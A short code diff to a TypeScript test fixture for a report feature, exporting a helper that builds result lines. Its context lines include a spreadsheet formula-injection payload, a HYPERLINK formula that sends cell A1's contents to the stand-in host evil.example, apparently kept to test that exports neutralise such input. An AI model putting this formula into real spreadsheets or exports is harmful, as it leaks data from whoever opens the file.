@@ -10,7 +10,8 @@ import type { ReportAudit, ReportInput } from './report-input.js';
 export const HYPERLINK_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
 export const GS1_VALUE = '0109501101530003\u001D10ABC123';
 
-function line(fields: Partial<ResultItem> & Pick<ResultItem, 'sku'>): ResultItem {
+/** A result line with `fields`; every other field null, empty or false, scanValue and matchedSku the sku. */
+export function line(fields: Partial<ResultItem> & Pick<ResultItem, 'sku'>): ResultItem {
   return {
     scanValue: fields.sku,
     matchedSku: fields.sku,
